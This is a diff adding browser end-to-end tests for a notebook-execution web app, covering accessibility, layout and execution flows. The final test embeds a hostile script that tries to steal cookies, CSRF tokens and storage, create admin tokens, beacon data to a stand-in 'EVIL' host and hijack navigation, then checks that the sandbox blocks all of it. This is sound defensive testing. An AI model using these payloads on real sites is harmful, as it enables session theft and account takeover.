@@ -1,0 +1,332 @@
+"""The pages in a browser: from a file to its result, at the width of a laptop and of a phone, light and dark.
+
+Where ``PRESSROOM_PICTURES`` names a folder, a picture of each page goes there.
+"""
+
+import os
+import threading
+from collections.abc import AsyncIterator, Iterator
+from contextlib import asynccontextmanager
+from dataclasses import dataclass, field
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any, Literal
+
+import nbformat
+import psycopg
+import pytest
+from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
+from playwright.async_api import BrowserContext, Page, async_playwright, expect
+
+from axe import violations
+from pressroom.settings import Settings
+
+Service = pytest.Service  # type: ignore[attr-defined]
+CHROMIUM = "/usr/bin/chromium"
+PICTURES = os.environ.get("PRESSROOM_PICTURES")
+Scheme = Literal["light", "dark"]
+ABOUT = "# Regional sales\n\nOne region in one *month*: revenue and units against the month before.\n"
+PARAMETERS = """region: str = "EMEA"  # the sales region
+month = "2026-10"  # the month to report, written YYYY-MM
+top_n: int = 8  # how many products the ranking shows
+"""
+WAITING = """import time
+from pathlib import Path
+
+print("loading", region, flush=True)
+while not Path({gate!r}).exists():
+    time.sleep(0.05)
+"""
+LOOK = "for product in range(top_n):\n    print(product)"
+
+
+@dataclass
+class Looking:
+    """A browser of a certain width, and all that its pages complained of."""
+
+    context: BrowserContext
+    url: str
+    name: str
+    complaints: list[str] = field(default_factory=list)
+
+    async def page(self) -> Page:
+        page = await self.context.new_page()
+        page.on("console", lambda told: self.complaints.append(told.text) if told.type == "error" else None)
+        page.on("pageerror", lambda error: self.complaints.append(str(error)))
+        return page
+
+    async def look(self, page: Page, name: str) -> None:
+        """There is no barrier in either scheme, and nothing is wider than the page."""
+        for scheme in ("light", "dark"):
+            await page.emulate_media(color_scheme=scheme, reduced_motion="reduce")
+            found = await violations(page)
+            assert found == [], f"{name}, {scheme}"
+            if PICTURES:
+                await page.screenshot(path=Path(PICTURES, f"{name}-{self.name}-{scheme}.png"), full_page=True)
+        wide = await page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
+        assert wide == 0, f"{name} is {wide} pixels too wide"
+
+
+@asynccontextmanager
+async def looking(url: str, name: str, width: int) -> AsyncIterator[Looking]:
+    async with async_playwright() as playwright:
+        chromium = await playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
+        context = await chromium.new_context(
+            viewport={"width": width, "height": 900}, timezone_id="Europe/Berlin", locale="en-GB"
+        )
+        context.set_default_timeout(60_000)
+        expect.set_options(timeout=60_000)
+        yield Looking(context, url, name)
+        await chromium.close()
+
+
+@pytest.fixture
+def gate(home: Path) -> Path:
+    """The file whose making lets the notebook go on."""
+    cells = [
+        new_markdown_cell(ABOUT),
+        new_code_cell(PARAMETERS, metadata={"tags": ["parameters"]}),
+        new_code_cell(WAITING.format(gate=str(home / "gate"))),
+        new_code_cell(LOOK),
+    ]
+    notebook = new_notebook(cells=cells)
+    notebook.metadata.kernelspec = {"name": "python3", "display_name": "Python 3", "language": "python"}
+    (home / "reports").mkdir()
+    nbformat.write(notebook, home / "reports" / "regional_sales.ipynb")
+    return home / "gate"
+
+
+@pytest.mark.parametrize(("name", "width"), [("laptop", 1280), ("phone", 390)])
+async def test_from_a_file_to_its_result(service: Any, gate: Path, name: str, width: int) -> None:
+    async with looking(service.url, name, width) as at:
+        page = await at.page()
+        await page.goto(at.url)
+        await expect(page.get_by_role("heading", name="Begin here")).to_be_visible()
+        await at.look(page, "home-empty")
+        await page.get_by_role("link", name="Register a notebook").first.click()
+        await at.look(page, "files")
+        await page.get_by_role("link", name="Register regional_sales.ipynb").click()
+        await page.get_by_label("Tags").fill("report, monthly")
+        await page.locator("[name='d.2.low']").fill("1")
+        await page.locator("[name='d.2.high']").fill("50")
+        await page.locator("[name='d.0.options']").fill("EMEA, AMER, APAC")
+        await at.look(page, "registering")
+        await page.get_by_role("button", name="Register", exact=True).click()
+        await expect(page.get_by_text("The notebook is registered.")).to_be_visible()
+        await expect(page.get_by_text("revenue and units against the month before")).to_be_visible()
+        notebook = page.url.partition("?")[0]
+        await at.look(page, "notebook-new")
+
+        # The slider and the number are one; what is wrong stands beside its field, and the rest is kept.
+        await page.get_by_label("top_n, as a slider").press("ArrowRight")
+        await expect(page.locator("[name='p.top_n']")).to_have_value("9")
+        await page.locator("[name='p.top_n']").fill("500")
+        await page.get_by_label("region").select_option("APAC")
+        await page.get_by_role("button", name="Execute", exact=True).click()
+        wrong = page.locator(".field-error")
+        await expect(wrong).to_have_count(1)
+        await expect(wrong).to_contain_text("'top_n' must be at most 50")
+        await expect(page.get_by_label("region")).to_have_value("APAC")
+        await expect(page.locator("[name='p.top_n']")).to_have_value("500")
+        await at.look(page, "notebook-wrong")
+        await page.locator("[name='p.top_n']").fill("3")
+        await page.get_by_role("button", name="Execute", exact=True).click()
+
+        # It is followed while it works: the cell that runs, and what it puts out, without loading the page again.
+        await expect(page.locator("[data-part=line]")).to_contain_text("import time")
+        await expect(page.locator("[data-part=output]")).to_contain_text("loading APAC")
+        await expect(page.locator(".cell-running")).to_have_count(1)
+        await at.look(page, "execution-running")
+        execution = page.url
+        other = await at.page()
+        await other.goto(f"{at.url}/home")
+        await expect(other.locator("#now").get_by_text("Regional sales").first).to_be_visible()
+        await at.look(other, "home-running")
+        gate.touch()
+
+        # Its end shows by itself: the notebook in its frame, with and without its code.
+        sheet = page.frame_locator("iframe.sheet")
+        await expect(sheet.get_by_text("loading APAC")).to_be_visible()
+        await expect(page.locator("main .status-success").first).to_be_visible()
+        await at.look(page, "execution")
+        await page.get_by_role("link", name="Without").click()
+        await expect(sheet.get_by_text("loading APAC")).to_be_visible()
+        await expect(sheet.get_by_text("import time")).to_have_count(0)
+        await page.get_by_role("link", name="Again with changes").click()
+        await expect(page.locator("[name='p.top_n']")).to_have_value("3")
+        await page.goto(notebook)
+        await at.look(page, "notebook")
+        await page.get_by_role("link", name="All executions").click()
+        await expect(page.locator("tbody tr")).to_have_count(1)
+        await at.look(page, "executions")
+        await page.goto(f"{at.url}/notebooks")
+        await page.get_by_label("Search").press_sequentially("regi")
+        await expect(page).to_have_url(f"{at.url}/notebooks?q=regi&owner=&tag=")
+        await at.look(page, "notebooks")
+        await page.get_by_label("Search").fill("nothing like it")
+        await expect(page.get_by_text("No notebook matches")).to_be_visible()
+        await page.goto(f"{at.url}/ui")
+        await at.look(page, "ui")
+        refused = await page.goto(f"{at.url}/executions/{int(execution.rpartition('/')[2]) + 1}")
+        assert refused is not None
+        assert refused.status == 404
+        await at.look(page, "not-there")
+        assert [each for each in at.complaints if "404" not in each] == []
+
+
+async def test_a_failure_begins_with_the_error_and_its_cell_and_a_question_comes_before_a_cancellation(
+    service: Any, home: Path, gate: Path
+) -> None:
+    notebook = new_notebook(
+        cells=[new_code_cell("a = 1"), new_code_cell("def share(a):\n    return a / 0\n\nshare(a)")]
+    )
+    nbformat.write(notebook, home / "broken.ipynb")
+    async with looking(service.url, "laptop", 1280) as at:
+        page = await at.page()
+        sent = await page.request.post(f"{at.url}/execute", data={"input_path": str(home / "broken.ipynb")})
+        await page.goto(f"{at.url}/executions/{(await sent.json())['execution_id']}")
+        await expect(page.get_by_role("heading", name="What went wrong")).to_be_visible()
+        await expect(page.get_by_text("ZeroDivisionError").first).to_be_visible()
+        await expect(page.get_by_label("The cell that failed")).to_contain_text("return a / 0")
+        await at.look(page, "execution-failed")
+        options = {"headers": {"Prefer": "respond-async"}}
+        sent = await page.request.post(
+            f"{at.url}/execute", data={"input_path": str(home / "reports" / "regional_sales.ipynb")}, **options
+        )
+        await page.goto(f"{at.url}/executions/{(await sent.json())['id']}")
+        await expect(page.locator("[data-part=output]")).to_contain_text("loading EMEA")
+        await page.get_by_role("button", name="Cancel", exact=True).click()
+        await expect(page.get_by_role("heading", name="Cancel this execution?")).to_be_visible()
+        await at.look(page, "question")
+        await page.get_by_role("button", name="Leave it").click()
+        await page.get_by_role("button", name="Cancel", exact=True).click()
+        await page.get_by_role("button", name="Cancel it").click()
+        await expect(page.locator("main .status-cancelled").first).to_be_visible()
+        assert at.complaints == []
+
+
+ATTACK = """
+<pre id="report"></pre>
+<form id="form" method="post" action="/db/tokens"><input name="scopes" value="admin"></form>
+<form id="away" method="post" action="EVIL/form"><input name="a" value="1"></form>
+<a id="download" download href="data:text/plain,x">x</a>
+<script>
+(async () => {
+  const report = {};
+  const attempt = async (name, action) => {
+    try { report[name] = String(await action()); } catch (error) { report[name] = "refused: " + error.name; }
+  };
+  await attempt("origin", () => self.origin);
+  await attempt("cookie", () => document.cookie);
+  await attempt("cookie of the parent", () => parent.document.cookie);
+  await attempt("page of the parent", () => parent.document.body.innerHTML);
+  await attempt("token of the parent", () => top.document.querySelector("[name=csrf_token]").value);
+  await attempt("storage", () => localStorage.getItem("a"));
+  await attempt("storage of the parent", () => parent.localStorage.getItem("a"));
+  await attempt("database", () => indexedDB.open("x"));
+  await attempt("api", async () => (await fetch("/db/tokens", {method: "POST", credentials: "include",
+    headers: {"Content-Type": "application/json"}, body: '{"scopes": ["admin"]}'})).status);
+  await attempt("api, blindly", async () => (await fetch("/execute", {method: "POST", mode: "no-cors",
+    credentials: "include", body: "{}"})).type);
+  await attempt("beacon", () => navigator.sendBeacon("EVIL/beacon", "x") && "called");
+  await attempt("picture", () => new Promise((done, refused) => {
+    const picture = new Image();
+    picture.onload = () => done("loaded");
+    picture.onerror = () => refused(new DOMException("", "Blocked"));
+    picture.src = "EVIL/picture";
+  }));
+  await attempt("socket", () => new Promise((done, refused) => {
+    const socket = new WebSocket("EVIL/socket".replace("http", "ws"));
+    socket.onopen = () => done("open");
+    socket.onerror = () => refused(new DOMException("", "Blocked"));
+  }));
+  await attempt("worker", () => navigator.serviceWorker.register("/db/worker.js"));
+  await attempt("window", () => String(window.open("EVIL/window")));
+  await attempt("message", () => { parent.postMessage({notice: "cancelled", html: "<b>x</b>"}, "*"); return "sent"; });
+  await attempt("question", () => String(alert("x")));
+  await attempt("form", () => { document.getElementById("form").submit(); return "called"; });
+  await attempt("form to another site", () => { document.getElementById("away").submit(); return "called"; });
+  await attempt("download", () => { document.getElementById("download").click(); return "called"; });
+  await attempt("top", () => { top.location = "EVIL/top"; return "called"; });
+  await attempt("link to the top", () => {
+    const link = document.createElement("a");
+    link.target = "_top";
+    link.href = "EVIL/link";
+    document.body.append(link);
+    link.click();
+    return "called";
+  });
+  document.getElementById("report").textContent = JSON.stringify(report);
+})();
+</script>
+"""
+REFUSED = {
+    *("cookie", "cookie of the parent", "page of the parent", "token of the parent", "storage"),
+    *("storage of the parent", "database", "api", "api, blindly", "picture", "socket", "worker", "top"),
+}
+LEAVING = '<meta http-equiv="refresh" content="0;url=EVIL/refresh"><script>location = "EVIL/location"</script>'
+
+
+@pytest.fixture
+def evil() -> Iterator[tuple[str, list[str]]]:
+    """Another site, and what it was asked for."""
+    asked: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(f"{self.command} {self.path}")
+            self.send_response(204)
+            self.end_headers()
+
+        do_POST = do_GET
+
+        def log_message(self, *_: Any) -> None:
+            """Say nothing."""
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    thread = threading.Thread(target=server.serve_forever)
+    thread.start()
+    yield f"http://127.0.0.1:{server.server_port}", asked
+    server.shutdown()
+    thread.join()
+    server.server_close()
+
+
+async def test_what_a_hostile_notebook_puts_out_gets_nowhere(
+    service: Any, home: Path, settings: Settings, evil: tuple[str, list[str]]
+) -> None:
+    address, asked = evil
+    for name, attack in (("attack", ATTACK), ("leaving", LEAVING)):
+        show = f"from IPython.display import HTML, display\ndisplay(HTML({attack.replace('EVIL', address)!r}))"
+        nbformat.write(new_notebook(cells=[new_code_cell(show)]), home / f"{name}.ipynb")
+    async with looking(service.url, "laptop", 1280) as at:
+        await at.context.add_cookies([{"name": "pressroom_theme", "value": "dark", "url": at.url}])
+        page = await at.page()
+        popups: list[Page] = []
+        at.context.on("page", popups.append)
+        downloads: list[Any] = []
+        page.on("download", downloads.append)
+        numbers: list[int] = []
+        for name in ("attack", "leaving"):
+            sent = await page.request.post(f"{at.url}/execute", data={"input_path": str(home / f"{name}.ipynb")})
+            assert sent.ok, await sent.text()
+            numbers.append((await sent.json())["execution_id"])
+        here = f"{at.url}/executions/{numbers[0]}"
+        await page.goto(here)
+        report = page.frame_locator("iframe.sheet").locator("#report")
+        await expect(report).to_contain_text("link to the top")
+        told = await report.evaluate("node => JSON.parse(node.textContent)")
+        assert told["origin"] == "null"
+        assert {name for name in told if told[name].startswith("refused")} >= REFUSED, told
+        assert told["window"] == "null"
+        assert page.url == here
+        leaving = f"{at.url}/executions/{numbers[1]}"
+        await page.goto(leaving)
+        await expect(page.locator("iframe.sheet")).to_be_visible()
+        await page.wait_for_load_state("networkidle")
+        assert page.url == leaving
+        assert (asked, popups, downloads) == ([], [], [])
+    assert settings.database_url is not None
+    with psycopg.connect(settings.database_url.get_secret_value().replace("+psycopg", "")) as plain:
+        assert plain.execute("SELECT count(*) FROM access_tokens").fetchone() == (0,)
+        assert plain.execute("SELECT count(*) FROM notebook_executions").fetchone() == (2,)
